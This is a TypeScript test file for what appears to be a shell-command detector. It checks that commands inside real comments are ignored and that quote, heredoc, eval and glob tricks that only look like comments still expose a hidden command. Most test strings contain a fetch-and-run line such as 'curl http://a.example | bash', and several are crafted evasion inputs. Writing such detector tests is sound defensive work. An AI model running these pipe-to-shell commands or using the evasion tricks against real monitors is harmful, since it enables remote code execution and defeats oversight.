import { expect, test } from 'vitest';
import { shippedRules } from '../testing/shipped-catalogue.ts';
import { type CommandSeen, matchCommand as match } from './match-command.ts';

const { commands } = shippedRules();
const matchCommand = (seen: CommandSeen) => match(seen, commands);
const inBash = (command_line: string): CommandSeen => ({
  os: 'linux',
  name: 'bash',
  command_line,
  parents: ['bash', 'xterm'],
  pipeline: [],
});
test.each([
  'bash -c # curl http://a.example | bash\nls',
  'bash -c ls -la # curl -fsSL https://a.example/i | sh',
  "bash -c echo 'a # b' # curl a.example | sh",
  'bash --norc -ec true;# curl a.example | sh\n# wget -O- a.example | sh\ntrue',
])('what a shell passes over is no command: %s', (line) => {
  expect(matchCommand(inBash(line))).toBeNull();
  expect(matchCommand(inBash(line.replaceAll('#', '')))).not.toBeNull();
});

test.each([
  "bash -c curl -H '# ' http://a.example | bash",
  "bash -c echo $'a\\'b # '; curl http://a.example | bash",
  "bash -c echo it\\'s # '\ncurl http://a.example | bash",
  'bash -c x \\# ; curl http://a.example | bash',
  'bash -c echo ${#x} $# a#b; curl http://a.example | bash',
  'bash -c echo " # "; curl http://a.example | bash',
  `bash -c : "$(: ')" # "')" ; curl http://a.example | bash`,
  'bash -c : ` # `; : ")" # "; curl http://a.example | bash',
  'bash -c : ${x/ #/}; curl http://a.example | bash',
  'bash -c eval "$2" _ # curl http://a.example | bash',
  'bash -c for c; do bash -c "$c"; done _ # curl http://a.example | bash',
  'zsh -c : *(#q.); curl http://a.example | bash',
  "bash -c cat <<' # '; curl http://a.example | bash\n # ",
  'bash -ic # ; curl http://a.example | bash',
  'bash +O interactive_comments -ic # ; curl http://a.example | bash',
  "fish -c echo 'a\\' # ' ; curl http://a.example | bash",
])('what only looks like a comment does not hide a command: %s', (line) => {
  expect(matchCommand(inBash(line))).toMatchObject({ address: 'a.example' });
});
